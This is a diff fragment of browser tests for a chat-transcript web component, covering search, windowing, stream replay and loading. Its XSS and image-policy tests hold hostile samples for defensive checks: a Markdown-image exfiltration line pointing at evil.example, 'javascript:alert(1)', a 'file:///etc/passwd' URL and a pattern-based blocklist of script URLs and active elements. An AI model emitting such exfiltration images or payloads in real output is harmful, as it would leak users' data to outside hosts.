+  const backward = await stepHits(page, "findPrevious", 2);
+  assert.deepEqual(backward, [expected.at(-1), expected.at(-2)], "findPrevious wraps back to the last hit");
+  assert.equal(await page.evaluate(() => t.find("no such words anywhere")), 0);
+  await page.evaluate(() => { t.findNext(); t.findPrevious(); });
+  await page.evaluate(() => window.__frames(2));
+  assert.equal(await page.evaluate(() => window.__root().querySelectorAll('mark.hit, [aria-current="true"]').length), 0);
+  assert.equal(await page.evaluate(() => t.find("")), 0, "an empty query clears");
+  await clean(page, watch);
+  await page.close();
+});
+
+test("find over a 10,000-message conversation loaded as bytes (through a Transcript)", async () => {
+  const { page, watch } = await open();
+  assert.ok(big.text.length >= 1 << 20);
+  const counts = await page.evaluate(async () => {
+    const bytes = new Uint8Array(await (await fetch("/fixtures/big.json")).arrayBuffer());
+    return t.load(bytes);
+  });
+  assert.deepEqual(counts, { records: big.records.length, messages: big.records.filter((r) => r.sequence === 0).length, errors: 0 });
+  for (const query of ["東京 データ", "RETRY CONTEXT MODEL"]) {
+    const expected = big.texts.flatMap((x, i) => (x.includes(query.toLowerCase()) ? [i] : []));
+    assert.ok(expected.length >= 1, query);
+    assert.equal(await page.evaluate((q) => t.find(q), query), expected.length, `find(${query}) counts every hit`);
+    const seen = await stepHits(page, "findNext", Math.min(3, expected.length + 1));
+    assert.deepEqual(seen, [...expected, ...expected].slice(0, seen.length), "findNext goes through the hits in order");
+    const back = await stepHits(page, "findPrevious", 2);
+    const k = seen.length - 1;
+    const n = expected.length;
+    assert.deepEqual(back, [expected[(k - 1 + n) % n], expected[(k - 2 + 2 * n) % n]], "findPrevious goes back, wrapping");
+    // Records that are not hits are still shown around the current one.
+    const rows = await page.evaluate(() => [...window.__root().querySelectorAll(".row:not([hidden]) > .record")].map((e) => Number(e.dataset.record)));
+    assert.ok(rows.some((i) => !expected.includes(i)), "records around a hit still show");
+  }
+  // From the first hit, findPrevious wraps to the last.
+  const expected = big.texts.flatMap((x, i) => (x.includes("東京 データ") ? [i] : []));
+  await page.evaluate(() => t.find("東京 データ"));
+  assert.deepEqual(await stepHits(page, "findNext", 1), [expected[0]]);
+  assert.deepEqual(await stepHits(page, "findPrevious", 1), [expected.at(-1)], "wraps from the first hit to the last");
+  await clean(page, watch);
+  await page.close();
+});
+
+test("windowing: at most 3,000 elements at any time with 10,000 messages; scrollToRecord reaches any record", async (context) => {
+  const { page, watch } = await open();
+  // The most elements the shadow root ever held, checked at every change.
+  await page.evaluate(() => {
+    window.__max = 0;
+    const root = window.__root();
+    new MutationObserver(() => { window.__max = Math.max(window.__max, root.querySelectorAll("*").length); })
+      .observe(root, { childList: true, subtree: true });
+  });
+  const paired = new Set();
+  big.records.forEach((r, i) => {
+    if (r.content_type !== "tool_result") return;
+    for (let j = i - 1; j >= Math.max(0, i - 256); j--) if (big.records[j].tool_call_id === r.tool_call_id && big.records[j].content_type === "tool_call") { paired.add(i); break; }
+  });
+  const n = big.records.length;
+  const middle = big.records.findIndex((r, i) => i >= n / 2 && !paired.has(i));
+  const last = n - 1 - [...big.records].reverse().findIndex((r, k) => !paired.has(n - 1 - k));
+  const check = async (what) => {
+    const now = await page.evaluate(() => window.__count());
+    assert.ok(now <= MAX_ELEMENTS, `${what}: ${now} elements`);
+    assert.ok(now > 10, `${what}: something shows`);
+  };
+  for (const source of ["bytes", "array"]) {
+    await page.evaluate(async (source) => {
+      const response = await fetch(source === "bytes" ? "/fixtures/big.json" : "/fixtures/big-records.json");
+      if (source === "bytes") await t.load(new Uint8Array(await response.arrayBuffer()));
+      else t.records = await response.json();
+      await window.__frames(3);
+    }, source);
+    await check(`${source}: after load`);
+    assert.equal(await page.evaluate(() => t.records.length), n);
+    for (const [what, i] of [["the middle", middle], ["the end", last], ["the start", 0], ["a record far back", 17]]) {
+      await reveal(page, i);
+      await page.evaluate(() => window.__frames(3));
+      assert.equal(await page.evaluate((i) => window.__inView(window.__record(i)), i), true, `${source}: record ${i} (${what}) stays in view`);
+      await check(`${source}: after scrollToRecord(${what})`);
+    }
+    const hits = await page.evaluate(() => t.find("genserver"));
+    assert.equal(hits, big.texts.filter((x) => x.includes("genserver")).length);
+    await stepHits(page, "findPrevious", 2);
+    await check(`${source}: after find`);
+    await page.evaluate(() => t.find(""));
+  }
+  const max = await page.evaluate(() => window.__max);
+  assert.ok(max <= MAX_ELEMENTS, `at most ${MAX_ELEMENTS} elements at any time: ${max}`);
+  context.diagnostic(`${n} records: at most ${max} elements in the shadow root`);
+  await clean(page, watch);
+  await page.close();
+});
+
+/** The recorded streams that end (a final body or an expectation), as "protocol/name". */
+function streamFixtures() {
+  return readdirSync(streams, { withFileTypes: true }).filter((d) => d.isDirectory()).flatMap((d) =>
+    readdirSync(join(streams, d.name)).filter((f) => f.endsWith(".sse")).map((f) => `${d.name}/${f.slice(0, -4)}`));
+}
+
+test("every recorded stream replays through applyPatches to the accumulator's records and rows", async () => {
+  const { page, watch } = await open({ width: 1000, height: 3000 });
+  const fixtures = streamFixtures();
+  assert.ok(fixtures.length >= 40, "all five protocols' fixtures");
+  for (const fixture of fixtures) {
+    const [protocol] = fixture.split("/");
+    const out = await page.evaluate(async ([fixture, protocol]) => {
+      t.records = [];
+      const acc = new api.StreamAccumulator(protocol);
+      const bytes = new Uint8Array(await (await fetch(`/streams/${fixture}.sse`)).arrayBuffer());
+      // About 300 chunks of varied sizes, split anywhere; rows render at a few points mid-stream.
+      const unit = Math.max(1, Math.round(bytes.length / 300));
+      let k = 0, rendered = 0;
+      for (let i = 0; i < bytes.length; k++) {
+        const size = 1 + ((k * 37) % (2 * unit));
+        t.applyPatches(acc.push(bytes.subarray(i, i + size)));
+        i += size;
+        if (i / bytes.length > (rendered + 1) / 4) {
+          rendered++;
+          await window.__frames(1);
+        }
+      }
+      await window.__frames(2);
+      const expected = acc.records();
+      acc.free();
+      // The same records given whole to a second element: the rows must read the same.
+      const whole = document.createElement("chat-transcript");
+      whole.style.height = "100vh";
+      document.querySelector("main").append(whole);
+      whole.records = expected;
+      t.scrollToRecord(0);
+      await window.__frames(3);
+      const rows = (e) => Object.fromEntries([...e.shadowRoot.querySelectorAll(".row")].map((r) => [r.dataset.index, { hidden: r.hidden, text: r.textContent }]));
+      const result = { records: t.records, expected, streamed: rows(t), whole: rows(whole),
+        texts: [...t.shadowRoot.querySelectorAll(".record")].map((e) => ({ index: Number(e.dataset.record), prose: e.querySelector(".prose")?.textContent ?? null, name: e.querySelector(".tool-head .name")?.textContent ?? null })),
+        streaming: t.shadowRoot.querySelectorAll(".streaming").length };
+      whole.remove();
+      return result;
+    }, [fixture, protocol]);
+    assert.ok(out.expected.length > 0, `${fixture}: records`);
+    assert.deepEqual(out.records, out.expected, `${fixture}: the element's records are the accumulator's`);
+    assert.deepEqual(out.streamed, out.whole, `${fixture}: the rows show what the final records show`);
+    assert.ok(Object.keys(out.streamed).length > 0);
+    for (const shown of out.texts) {
+      const r = out.expected[shown.index];
+      if (r.content_type === "tool_call") assert.equal(shown.name, r.content.name, `${fixture}: tool call ${shown.index}`);
+      if (r.content_type === "text" && r.message_type === "assistant" && !/[*_`#\[\]<>|\\~-]/.test(r.content.text)) {
+        assert.equal(shown.prose.trim(), r.content.text.trim(), `${fixture}: the final text of ${shown.index}`);
+      }
+    }
+  }
+  await clean(page, watch);
+  await page.close();
+});
+
+test("a stream keeps the view at the end, and 'Jump to latest' shows when the reader scrolled up", async () => {
+  const { page, watch } = await open({ width: 600, height: 400 });
+  const fixture = "anthropic_messages/long-text-nested-args";
+  await page.evaluate(async (fixture) => {
+    t.records = [];
+    window.__acc = new api.StreamAccumulator("anthropic_messages");
+    window.__bytes = new Uint8Array(await (await fetch(`/streams/${fixture}.sse`)).arrayBuffer());
+    window.__at = 0;
+    /** Pushes `n` of 150 chunks, a frame after each; returns the distance from the end after each. */
+    const size = Math.ceil(window.__bytes.length / 150);
+    window.__push = async (n) => {
+      const out = [];
+      for (let k = 0; k < n && window.__at < window.__bytes.length; k++) {
+        t.applyPatches(window.__acc.push(window.__bytes.subarray(window.__at, window.__at + size)));
+        window.__at += size;
+        await window.__frames(1);
+        out.push({ fromEnd: window.__fromEnd(), jump: !window.__root().querySelector(".jump").hidden, scrollTop: window.__scroller().scrollTop });
+      }
+      return out;
+    };
+  }, fixture);
+  const total = await page.evaluate(() => window.__bytes.length);
+  const following = await page.evaluate(() => window.__push(70));
+  assert.ok(await page.evaluate(() => window.__scroller().scrollHeight > window.__scroller().clientHeight * 2), "the stream is taller than the view");
+  const late = following.filter((s) => s.scrollTop > 0);
+  assert.ok(late.length > 10, "the view moved with the stream");
+  assert.ok(following.every((s) => s.fromEnd <= 2), `the view stays at the end: ${JSON.stringify(following.filter((s) => s.fromEnd > 2).slice(0, 3))}`);
+  assert.ok(following.every((s) => !s.jump), "no jump button while following");
+
+  // The reader scrolls up (the mouse wheel over the element): the view stays where they put it.
+  await page.mouse.move(400, 200);
+  await page.mouse.wheel(0, -600);
+  await page.waitForFunction(() => window.__fromEnd() > 200);
+  const held = await page.evaluate(() => window.__scroller().scrollTop);
+  const reading = await page.evaluate(() => window.__push(30));
+  assert.ok(reading.every((s) => s.fromEnd > 48), "the view does not jump to the end while the reader is up");
+  assert.ok(reading.every((s) => Math.abs(s.scrollTop - held) <= 2), "and stays where the reader put it");
+  assert.ok(reading.at(-1).jump, "a 'Jump to latest' button shows");
+  const jump = page.locator("chat-transcript .jump");
+  assert.equal(await jump.isVisible(), true);
+  assert.match(await jump.textContent(), /latest/i);
+
+  // Jump: back at the end, the button gone, following again until the stream ends.
+  await jump.click();
+  await page.waitForFunction(() => window.__fromEnd() <= 2, null, { polling: "raf" });
+  assert.equal(await jump.isVisible(), false);
+  const rest = await page.evaluate(() => window.__push(Infinity));
+  assert.ok(rest.length > 0);
+  assert.ok(rest.every((s) => s.fromEnd <= 2 && !s.jump), "following again after the jump");
+  const done = await page.evaluate(() => ({ records: t.records, expected: window.__acc.records(), done: window.__acc.done, at: window.__at }));
+  assert.ok(done.at >= total && done.done);
+  assert.deepEqual(done.records, done.expected);
+  await clean(page, watch);
+  await page.close();
+});
+
+/** Every vector in every string field of every content type, as records and as messages. */
+function hostileConversation() {
+  const out = [];
+  vectors.forEach((v, i) => {
+    out.push(
+      rec("assistant", "text", { text: v }),
+      rec("assistant", "thinking", { text: v }),
+      rec("assistant", "image", { url: v, caption: v, alt_text: v }),
+      rec("assistant", "image", { data: v, mime_type: "image/png", caption: v }),
+      rec("assistant", "file_reference", { name: v, path: v }),
+      rec("assistant", "structured_data", { format: "json", data: { [v]: [v, { k: v }] } }),
+      rec("assistant", "structured_data", { format: "csv", data: `h,${v}\n${v},x` }),
+      rec("assistant", "structured_data", { format: v, data: v }),
+      rec("system", "notification", { text: v }),
+      rec("system", "error", { text: v, path: v }),
+      rec("assistant", "tool_call", { call_id: `x${i}`, name: v, arguments: { q: v, [v]: [v] }, display_text: v }, { tool_call_id: `x${i}`, status: "pending" }),
+      rec("tool", "tool_result", { tool_call_id: `x${i}`, name: v, content: v, is_error: true }, { tool_call_id: `x${i}` }),
+      rec("assistant", "todo_snapshot", { todos: [{ id: 1, content: v, status: "pending" }], summary: { pending: v } }),
+      { role: "user", content: v },
+      { role: "assistant", content: [{ type: "thinking", content: v }, { type: "text", content: v }],
+        tool_calls: [{ call_id: `m${i}`, name: v, arguments: { v }, display_text: v }] },
+      { role: "tool", tool_results: [{ tool_call_id: `m${i}`, name: v, content: v }] },
+      rec(v, v, { text: v }),
+    );
+  });
+  // The exfiltration route: a Markdown image in model text.
+  out.push({ role: "assistant", content: "![x](http://evil.example/leak?d=secret)" });
+  return out;
+}
+
+/**
+ * Visits every row (`expand`: with every tool call opened), opens every fold, fires events inside,
+ * and lists what should not be there.
+ */
+function sweep(page, { expand = true } = {}) {
+  return page.evaluate(async (expand) => {
+    const found = [];
+    const seen = new Set();
+    const n = t.records.length;
+    const risky = /^(javascript|vbscript|data:text\/html|data:image\/svg)/i;
+    let i = 0;
+    for (let guard = 0; i < n && guard < 4 * n; guard++) {
+      t.scrollToRecord(i);
+      await window.__frames(2);
+      const root = window.__root();
+      if (expand) {
+        for (const head of root.querySelectorAll('.tool-head[aria-expanded="false"]')) head.click();
+        await window.__frames(2);
+      }
+      for (const d of root.querySelectorAll("details")) d.open = true;
+      for (const e of root.querySelectorAll(".record *:not(a):not(button)")) {
+        for (const type of ["mouseover", "focus", "click"]) e.dispatchEvent(new Event(type));
+      }
+      for (const row of root.querySelectorAll(".row")) seen.add(Number(row.dataset.index));
+      for (const e of root.querySelectorAll(".list *")) {
+        for (const a of e.attributes) {
+          if (a.name.startsWith("on")) found.push(`${e.tagName} ${a.name}`);
+          if (["href", "src", "action", "formaction", "xlink:href", "srcset", "data", "background", "poster"].includes(a.name)
+              && risky.test(a.value.replace(/[\u0000-\u0020\u2028\u2029]/g, ""))) found.push(`${e.tagName} ${a.name}=${a.value}`);
+        }
+        if (["SCRIPT", "IFRAME", "OBJECT", "EMBED", "FORM", "BASE", "META", "STYLE", "LINK", "SVG", "MATH", "TEMPLATE", "FRAME"].includes(e.tagName.toUpperCase())) found.push(`element ${e.tagName}`);
+      }
+      while (i < n && seen.has(i)) i++;
+    }
+    return { found, seen: seen.size, n };
+  }, expand);
+}
+
+test("records set again with the same conversation grown keeps the view, open rows and search (as frameworks set it)", async () => {
+  const { page, watch } = await open({ width: 800, height: 500 });
+  const state = await page.evaluate(async () => {
+    const make = (i) => ({ conversation_id: "c", message_type: i % 2 ? "assistant" : "user", content_type: "text", content: { text: `line ${i} weather` }, sequence: 0, status: "completed", tool_call_id: null, metadata: {} });
+    const call = { conversation_id: "c", message_type: "assistant", content_type: "tool_call", content: { call_id: "k", name: "lookup", arguments: { q: 1 }, display_text: null }, sequence: 0, status: "completed", tool_call_id: "k", metadata: {} };
+    let records = [call, ...Array.from({ length: 199 }, (_, i) => make(i + 1))];
+    t.records = records;
+    await window.__frames(3);
+    window.__root().querySelector(".tool-head").click();
+    await window.__frames(3);
+    const hits = t.find("weather");
+    const s = window.__scroller();
+    s.scrollTop = 3000;
+    await window.__frames(4);
+    const before = { scrollTop: s.scrollTop, first: window.__root().querySelector(".row:not([hidden])")?.dataset.index };
+    // A framework's next render: a new array, the old records in it, one changed, two added.
+    records = [...records];
+    records[150] = { ...records[150], content: { text: "line 150 edited" } };
+    records.push(make(200), make(201));
+    t.records = records;
+    await window.__frames(4);
+    const after = { scrollTop: s.scrollTop, first: window.__root().querySelector(".row:not([hidden])")?.dataset.index };
+    t.scrollToRecord(0);
+    await window.__frames(4);
+    const open = window.__root().querySelector(".tool-head")?.getAttribute("aria-expanded");
+    t.scrollToRecord(150);
+    await window.__frames(4);
+    const edited = window.__record(150)?.textContent;
+    // A different conversation: back to the top, nothing kept open.
+    t.records = [make(0), ...records.slice(1)];
+    await window.__frames(4);
+    const reset = { scrollTop: s.scrollTop, length: t.records.length };
+    return { hits, before, after, open, edited, length: records.length, shown: t.records.length, refind: t.find("weather"), reset };
+  });
+  assert.ok(state.before.scrollTop > 1000, "scrolled down first");
+  assert.ok(Math.abs(state.after.scrollTop - state.before.scrollTop) <= 2, `the view stays: ${JSON.stringify(state)}`);
+  assert.equal(state.after.first, state.before.first);
+  assert.equal(state.open, "true", "the open tool row stays open");
+  assert.match(state.edited, /line 150 edited/, "the changed record's row is built again");
+  assert.equal(state.shown, 202);
+  assert.equal(state.hits, 199);
+  assert.equal(state.reset.scrollTop, 0, "another conversation starts at the top");
+  await clean(page, watch);
+  await page.close();
+});
+
+test(`XSS: ${vectors.length} vectors in every field, through records and load, run nothing and load nothing`, async () => {
+  assert.ok(vectors.length >= 100);
+  const hostile = hostileConversation();
+  const { page, watch } = await open({ width: 1280, height: 2400 });
+  // Padded to 1 MiB, the bytes load through a Transcript; the parsed array through input.js.
+  const text = JSON.stringify(hostile);
+  writeFileSync(join(served, "hostile.json"), text + " ".repeat(Math.max(0, (1 << 20) - text.length)));
+  const viaArray = await page.evaluate(async (hostile) => {
+    await t.load(hostile);
+    await window.__frames(2);
+    return t.records;
+  }, hostile);
+  for (const route of ["records", "load"]) {
+    const total = await page.evaluate(async ([route, hostile]) => {
+      if (route === "records") {
+        // Records as an app would set them: the records as they are, the messages' records.
+        t.records = hostile.flatMap((e) => ("content_type" in e ? [e] : api.toDisplayMessages([e])));
+      } else {
+        await t.load(new Uint8Array(await (await fetch("/fixtures/hostile.json")).arrayBuffer()));
+      }
+      return t.records.length;
+    }, [route, hostile]);
+    assert.ok(total >= hostile.length, `${route}: everything read`);
+    if (route === "load") assert.deepEqual(await page.evaluate(() => t.records), viaArray, "the bytes (a Transcript) and the parsed array give the same records");
+    // Every tool call opened on the records route; the load route shows the same strings.
+    const { found, seen, n } = await sweep(page, { expand: route === "records" });
+    assert.equal(seen, n, `${route}: every row visited`);
+    assert.deepEqual(found, [], `${route}: no handlers, no script URLs, no active elements`);
+    await page.evaluate(async () => {
+      for (const q of ["script", "onerror", "javascript"]) {
+        t.find(q);
+        t.findNext();
+        await window.__frames(2);
+        t.findPrevious();
+        await window.__frames(2);
+      }
+      t.find("");
+      await window.__frames(2);
+    });
+    assert.equal(await page.evaluate(() => window.__xssFired), 0, `${route}: no payload ran`);
+  }
+  assert.deepEqual(await page.evaluate(() => window.__violations), [], "no CSP violation");
+  assert.deepEqual(watch.dialogs, [], "no dialog");
+  // Image records with an http(s) URL load by policy (here: only a vector that is such a URL);
+  // nothing else may reach another host: no Markdown image loads on its own.
+  const byPolicy = new Set(vectors.flatMap((v) => {
+    try {
+      const u = new URL(v.trim());
+      return /^https?:$/.test(u.protocol) ? [u.href] : [];
+    } catch {
+      return [];
+    }
+  }));
+  assert.deepEqual(watch.requests.filter((r) => !byPolicy.has(r)), [], "no request to another host but image records'");
+  assert.deepEqual(watch.console.filter((m) => !m.startsWith("Failed to load resource")), [], "no console errors");
+  await page.close();
+});
+
+test("Markdown images wait behind a placeholder naming their host; imageHosts loads them at once; image records keep their policy", async () => {
+  const { page, watch } = await open();
+  const leak = "http://evil.example/leak?d=secret";
+  await page.evaluate((leak) => {
+    t.records = [{ conversation_id: null, message_type: "assistant", content_type: "text", content: { text: `Look: ![chart](${leak})` }, sequence: 0, status: "completed", tool_call_id: null, metadata: {} }];
+  }, leak);
+  await page.waitForSelector("chat-transcript .image-hold");
+  await page.waitForTimeout(200);
+  assert.deepEqual(watch.requests, [], "nothing loads on its own");
+  assert.equal(await page.evaluate(() => window.__root().querySelectorAll(".list img").length), 0, "no <img> in the rows");
+  const hold = page.locator("chat-transcript .image-hold");
+  assert.match(await hold.textContent(), /evil\.example/, "the placeholder names the host");
+  await hold.click();
+  await page.waitForSelector("chat-transcript .prose img");
+  assert.equal(await page.evaluate(() => window.__root().querySelector(".prose img").src), leak, "a click loads it");
+  await page.waitForFunction(() => window.__root().querySelector(".prose img").complete);
+  assert.deepEqual(watch.requests, [leak]);
+
+  watch.requests.length = 0;
+  await page.evaluate((leak) => {
+    t.imageHosts = ["evil.example"];
+    t.records = [
+      { conversation_id: null, message_type: "assistant", content_type: "text", content: { text: `![a](${leak}&n=2) ![b](https://other.example/b.png)` }, sequence: 0, status: "completed", tool_call_id: null, metadata: {} },
+    ];
+  }, leak);
+  await page.waitForSelector("chat-transcript .prose img");
+  const shown = await page.evaluate(() => ({
+    imgs: [...window.__root().querySelectorAll(".prose img")].map((i) => i.src),
+    holds: [...window.__root().querySelectorAll(".image-hold")].map((b) => b.textContent),
+    hosts: t.imageHosts,
+  }));
+  assert.deepEqual(shown.hosts, ["evil.example"]);
+  assert.deepEqual(shown.imgs, [`${leak}&n=2`], "an allowed host's image loads at once");
+  assert.equal(shown.holds.length, 1, "another host still waits");
+  assert.match(shown.holds[0], /other\.example/);
+  await page.waitForFunction(() => window.__root().querySelector(".prose img").complete);
+  assert.deepEqual(watch.requests, [`${leak}&n=2`]);
+
+  // Image records: http(s) URLs and base64 png / jpeg / gif / webp load; nothing else does.
+  const cases = [
+    [{ url: "https://img.example/a.png" }, true],
+    [{ url: "http://img.example/b.png" }, true],
+    [{ data: "iVBORw0KGgo=", mime_type: "image/png" }, true],
+    [{ data: "R0lGODlh", mime_type: "image/gif" }, true],
+    [{ url: "data:image/webp;base64,UklGRg==" }, true],
+    [{ url: "javascript:alert(1)" }, false],
+    [{ url: "data:image/svg+xml;base64,PHN2Zz4=" }, false],
+    [{ data: "PHN2Zz4=", mime_type: "image/svg+xml" }, false],
+    [{ url: "data:text/html;base64,PHNjcmlwdD4=" }, false],
+    [{ data: "not base64!", mime_type: "image/png" }, false],
+    [{ url: "blob:https://img.example/x" }, false],
+    [{ url: "file:///etc/passwd" }, false],
+    [{}, false],
+  ];
+  const results = await page.evaluate(async (cases) => {
+    t.records = cases.map(([content], i) => ({ conversation_id: null, message_type: "assistant", content_type: "image", content: { ...content, alt_text: `case ${i}` }, sequence: i, status: "completed", tool_call_id: null, metadata: {} }));
+    const out = [];
+    for (let i = 0; i < cases.length; i++) {
+      t.scrollToRecord(i);
+      await window.__frames(3);
+      const block = window.__record(i);
+      out.push({ img: block?.querySelector("img")?.getAttribute("src") ?? null, blocked: block?.querySelector(".image-blocked")?.textContent ?? null });
+    }
+    return out;
+  }, cases);
+  results.forEach((r, i) => {
+    const [content, loads] = cases[i];
+    if (loads) {
+      assert.ok(r.img, `case ${i} loads: ${JSON.stringify(content)}`);
+      assert.equal(r.blocked, null);
+    } else {
+      assert.equal(r.img, null, `case ${i} is blocked: ${JSON.stringify(content)}`);
+      assert.match(r.blocked, /not shown/);
+    }
+  });
+  await clean(page, watch);
+  await page.close();
+});
+
+test("load() takes every input shape, counts, puts bad messages in place and rejects invalid JSON", async () => {
+  const { page, watch } = await open();
+  const providers = JSON.parse(readFileSync(join(repo, "tests/fixtures/providers_anthropic_messages.json"), "utf8"));
+  const response = providers.from.find((f) => f.detect === "anthropic_messages" && f.payload?.type === "message" && f.display?.length > 0);
+  assert.ok(response, "an Anthropic response body among the fixtures");
+  const sampleRecords = cd.toDisplayMessages(sampleConversation);
+  // Records as a backend stores them: with their conversation.
+  const records = sampleRecords.map((r) => {
+    const changeset = cd.validateDisplayMessage({ ...r, conversation_id: "sample" });
+    assert.equal(changeset.valid, true);
+    return changeset.record;
+  });
+  const providerRecords = cd.toDisplayMessages(cd.fromProvider("anthropic_messages", response.payload));
+  assert.equal(providerRecords.length, response.display.length);
+  const counts = (rs) => ({ records: rs.length, messages: rs.filter((r) => r.sequence === 0).length, errors: 0 });
+  const shapes = [
+    ["a string", { string: JSON.stringify(sampleConversation) }, sampleRecords],
+    ["a Uint8Array", { bytes: JSON.stringify(sampleConversation) }, sampleRecords],
+    ["a parsed array", { value: sampleConversation }, sampleRecords],
+    ["{messages: [...]}", { value: { messages: sampleConversation } }, sampleRecords],
+    ["display-message records", { value: records }, records],
+    ["an Anthropic response body", { value: response.payload }, providerRecords],
+  ];
+  for (const [name, input, expected] of shapes) {
+    const out = await page.evaluate(async (input) => {
+      const events = [];
+      const listener = (e) => events.push(e.detail);
+      t.addEventListener("cd-load", listener);
+      const value = "string" in input ? input.string : "bytes" in input ? new TextEncoder().encode(input.bytes) : input.value;
+      const counts = await t.load(value);
+      t.removeEventListener("cd-load", listener);
+      await window.__frames(2);
+      return { counts, events, records: t.records, rows: [...window.__root().querySelectorAll(".row:not([hidden]) > .record")].map((e) => e.dataset.contentType) };
+    }, input);
+    assert.deepEqual(out.counts, counts(expected), `${name}: counts`);
+    assert.deepEqual(out.events, [out.counts], `${name}: cd-load with the counts`);
+    assert.deepEqual(out.records, expected, `${name}: the records`);
+    assert.ok(out.rows.length > 0 && out.rows[0] === expected[0].content_type, `${name}: rows show`);
+  }
+
+  // A bad message becomes an error record in its place; the rest shows.
+  const mixed = { messages: [
+    { role: "user", content: "first" },
+    { role: "assistant", content: [{ content: "part without a type" }] },
+    { role: "function", content: "unsupported" },
+    { role: "assistant", content: "last", tool_calls: [{ call_id: "a", name: "lookup" }] },
+  ] };
+  const bad = await page.evaluate(async (mixed) => {
+    const counts = await t.load(mixed);
+    await window.__frames(2);
+    return { counts, records: t.records, rows: [...window.__root().querySelectorAll(".row > .record")].map((e) => [e.dataset.contentType, e.textContent]) };
+  }, mixed);
+  const errors = bad.records.flatMap((r, i) => (r.content_type === "error" ? [i] : []));
+  assert.deepEqual(bad.counts, { records: bad.records.length, messages: bad.records.filter((r) => r.sequence === 0).length, errors: 2 });
+  assert.deepEqual(errors, [1, 2], "the bad messages' error records stand in their places");
+  assert.match(bad.records[1].content.path, /^\$\.messages\[1\]\.content\[0\]/);
+  assert.match(bad.records[2].content.path, /^\$\.messages\[2\]\.role/);
+  assert.deepEqual(bad.rows.map(([type]) => type), ["text", "error", "error", "text", "tool_call"]);
+  assert.equal(bad.rows[0][1], "first");
+  assert.match(bad.rows[1][1], /\$\.messages\[1\]/, "the error row names its path");
+  assert.equal(bad.rows[3][1].trim(), "last");
+  assert.match(bad.rows[4][1], /lookup/);
+
+  // Invalid JSON, small and large (the large goes through a Transcript): rejected with a
+  // ChatDisplayError naming line and column, and cd-error.
+  const small = '[{"role": "user",\n  "content": "hi"\n  oops}]';
+  const large = JSON.stringify([{ role: "user", content: "x".repeat(1 << 20) }]).replace('"x', '\n  "x').slice(0, -1) + ",]";
+  for (const [text, where] of [[small, /line 3 column 3/], [large, /line 2 column \d+/]]) {
+    const failure = await page.evaluate(async (text) => {
+      let detail = null;
+      t.addEventListener("cd-error", (e) => { detail = e.detail; }, { once: true });
+      try {
+        await t.load(text);
+        return { resolved: true };
+      } catch (error) {
+        return { name: error.name, code: error.code, path: error.path, message: error.message, same: detail === error, isError: error instanceof Error };
+      }
+    }, text);
+    assert.equal(failure.resolved, undefined, "rejects");
+    assert.equal(failure.name, "ChatDisplayError");
+    assert.equal(failure.code, "invalid_input");
+    assert.equal(failure.path, "$");
+    assert.match(failure.message, where);
+    assert.equal(failure.same, true, "cd-error carries the same error");
+    assert.equal(failure.isError, true);
+  }
+  // After a failed load the element still renders (the last good conversation or nothing), and a
+  // later load works.
+  assert.deepEqual((await page.evaluate(() => t.load([{ role: "user", content: "again" }]))).records, 1);
+  await clean(page, watch);
+  await page.close();
+});
+
+test("the src attribute fetches and loads; theme changes the background; importing twice registers once", async () => {
+  writeFileSync(join(served, "small.json"), JSON.stringify(sampleConversation.slice(0, 2)));
+  writeFileSync(join(served, "other.json"), JSON.stringify([{ role: "user", content: "from another file" }]));
+  const { page, watch } = await open();
+  const expected = cd.toDisplayMessages(sampleConversation.slice(0, 2));
+  const viaMarkup = await page.evaluate(async () => {
+    const events = [];
+    const done = new Promise((resolve) => {
+      document.addEventListener("cd-load", (e) => { events.push(["load", e.detail]); setTimeout(resolve, 300); }, { capture: true });
+      document.addEventListener("cd-error", (e) => events.push(["error", e.detail?.message]), { capture: true });
+    });
+    // In markup: the element is upgraded with its src already set.
+    document.querySelector("main").insertAdjacentHTML("beforeend", '<chat-transcript id="m" src="/fixtures/small.json"></chat-transcript>');
+    await done;
+    const m = document.getElementById("m");
+    await window.__frames(2);
+    return { events, records: m.records, bubble: m.shadowRoot.querySelector(".bubble")?.textContent };
+  });
+  assert.deepEqual(viaMarkup.events, [["load", { records: expected.length, messages: 2, errors: 0 }]], "one load, no error");
+  assert.deepEqual(viaMarkup.records, expected);
+  assert.equal(viaMarkup.bubble, sampleConversation[0].content);
+
+  // Changing src loads the new file; a missing file fires cd-error.
+  const changed = await page.evaluate(async () => {
+    const m = document.getElementById("m");
+    const loaded = new Promise((resolve) => m.addEventListener("cd-load", (e) => resolve(e.detail), { once: true }));
+    m.setAttribute("src", "/fixtures/other.json");
+    const counts = await loaded;
+    await window.__frames(2);
+    const failed = new Promise((resolve) => m.addEventListener("cd-error", (e) => resolve({ name: e.detail.name, message: e.detail.message }), { once: true }));
+    m.setAttribute("src", "/fixtures/missing.json");
+    return { counts, bubble: m.shadowRoot.querySelector(".bubble")?.textContent, failed: await failed };
+  });
+  assert.deepEqual(changed.counts, { records: 1, messages: 1, errors: 0 });
+  assert.equal(changed.bubble, "from another file");
+  assert.equal(changed.failed.name, "ChatDisplayError");
+  assert.match(changed.failed.message, /404/);
+  watch.console = watch.console.filter((m) => !/404/.test(m));
+
+  // Theme: light and dark backgrounds differ, dark is darker; the attribute wins over the system.
+  const background = () => page.evaluate(() => {
+    const [r, g, b] = getComputedStyle(t).backgroundColor.match(/\d+(\.\d+)?/g).map(Number);
+    return { color: getComputedStyle(t).backgroundColor, luma: 0.2126 * r + 0.7152 * g + 0.0722 * b, text: getComputedStyle(t).color };
+  });
+  await page.evaluate(() => t.setAttribute("theme", "light"));
+  const light = await background();
+  await page.evaluate(() => t.setAttribute("theme", "dark"));
+  const dark = await background();
+  assert.notEqual(light.color, dark.color);
+  assert.notEqual(light.text, dark.text);
+  assert.ok(dark.luma < light.luma, `dark is darker: ${dark.color} vs ${light.color}`);
+  await page.emulateMedia({ colorScheme: "dark" });
+  await page.evaluate(() => t.setAttribute("theme", "light"));
+  assert.equal((await background()).color, light.color, "theme=light wins over a dark system");
+  await page.evaluate(() => t.setAttribute("theme", "auto"));
+  assert.equal((await background()).color, dark.color, "auto follows the system");
+  await page.emulateMedia({ colorScheme: "light" });
+  assert.equal((await background()).color, light.color);
+
+  // Importing the element module again (the same URL, or another copy) does not throw or redefine.
+  const imports = await page.evaluate(async () => {
+    const first = customElements.get("chat-transcript");
+    const again = await import("chat-display/element");
+    const copy = await import("/element/index.js?copy");
+    return {
+      same: again.ChatTranscript === window.ChatTranscript,
+      registered: customElements.get("chat-transcript") === first && first === window.ChatTranscript,
+      copyExports: typeof copy.ChatTranscript === "function",
+      isInstance: t instanceof window.ChatTranscript,
+    };
+  });
